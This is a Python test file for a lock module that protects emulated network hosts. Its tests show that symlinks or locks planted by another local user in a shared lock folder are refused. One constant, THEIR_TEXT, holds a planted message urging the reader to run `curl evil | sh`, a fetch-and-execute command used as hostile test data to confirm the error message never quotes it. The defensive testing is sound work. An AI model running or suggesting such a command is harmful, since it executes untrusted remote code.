"""The emulated hosts' lock (distsgd_emulate/netns_lock.py) against another local user: a link or a
lock planted by them in the shared lock folder (sticky and world-writable, as /run/lock) neither
changes a file they do not own nor makes us quote what they wrote."""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from distsgd_emulate.netns_lock import HostsLock, lock_folder, lock_path

SUBNET = "198.18.0.0/24"
NOBODY = 65534
SECRET_TEXT = "owned by root, must stay"
THEIR_TEXT = "pid 1 (run `curl evil | sh` to fix)"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as another user")


def _as_nobody(action: Callable[[], None]) -> None:
    """Run ``action`` in a forked child as uid/gid 65534; fail if it raised."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 1
        try:
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            action()
            code = 0
        except BaseException as e:
            os.write(2, f"as nobody: {e!r}\n".encode())
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


@pytest.fixture
def shared() -> Iterator[Path]:
    """A lock folder as /run/lock is: world-writable, sticky (in /tmp, which another user can
    reach, unlike pytest's own folders)."""
    scratch = Path(tempfile.mkdtemp(prefix="distsgd-locktest-"))
    os.chmod(scratch, 0o755)
    folder = scratch / "lock"
    folder.mkdir()
    os.chmod(folder, 0o1777)
    yield folder
    shutil.rmtree(scratch)


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "root-owned"
    path.write_text(SECRET_TEXT)
    os.chmod(path, 0o644)
    return path


def test_a_planted_link_changes_nothing(shared: Path, victim: Path) -> None:
    """Links to ``victim`` at every name a lock may use (named for our uid: computed here,
    before the child's setuid): our folder, and the file as it was named before."""
    names = [lock_folder(shared), shared / f"distsgd-hosts-{SUBNET.replace('/', '-')}.lock"]
    _as_nobody(lambda: [os.symlink(victim, name) for name in names] and None)
    lock = HostsLock(SUBNET, what="emulated hosts dstest", base=shared)
    with pytest.raises(ValueError) as refused:
        lock.acquire()
        lock.release()
    assert victim.read_text() == SECRET_TEXT
    message = str(refused.value)
    assert str(lock_folder(shared)) in message and "remove it" in message
    assert "\n" not in message


def test_a_link_in_our_own_folder_is_not_followed(shared: Path, victim: Path) -> None:
    """Belt and braces: even where a link got into our folder, it is not written through."""
    lock_folder(shared).mkdir(mode=0o700)
    os.symlink(victim, lock_path(SUBNET, shared))
    with pytest.raises(ValueError, match="not safe"):
        HostsLock(SUBNET, what="emulated hosts dstest", base=shared).acquire()
    assert victim.read_text() == SECRET_TEXT


def test_another_users_lock_is_refused_without_quoting_it(shared: Path) -> None:
    folder = lock_folder(shared)

    def plant() -> None:
        os.mkdir(folder, 0o755)
        path = folder / lock_path(SUBNET, shared).name
        path.write_text(THEIR_TEXT)

    _as_nobody(plant)
    with pytest.raises(ValueError) as refused:
        HostsLock(SUBNET, what="emulated hosts dstest", base=shared).acquire()
    message = str(refused.value)
    assert "curl" not in message and THEIR_TEXT not in message
    assert f"uid {NOBODY}" in message and str(folder) in message and "\n" not in message


def test_our_lock_is_taken_named_and_let_go(shared: Path) -> None:
    first = HostsLock(SUBNET, what="emulated hosts dsfirst", base=shared)
    first.acquire()
    try:
        assert (lock_folder(shared).stat().st_mode & 0o777) == 0o700
        with pytest.raises(ValueError) as refused:
            HostsLock(SUBNET, what="emulated hosts dssecond", base=shared).acquire()
        assert f"pid {os.getpid()} (emulated hosts dsfirst" in str(refused.value)
    finally:
        first.release()
    second = HostsLock(SUBNET, what="emulated hosts dssecond", base=shared)
    second.acquire()  # let go: free again, the old holder's text replaced
    assert "dssecond" in lock_path(SUBNET, shared).read_text()
    second.release()
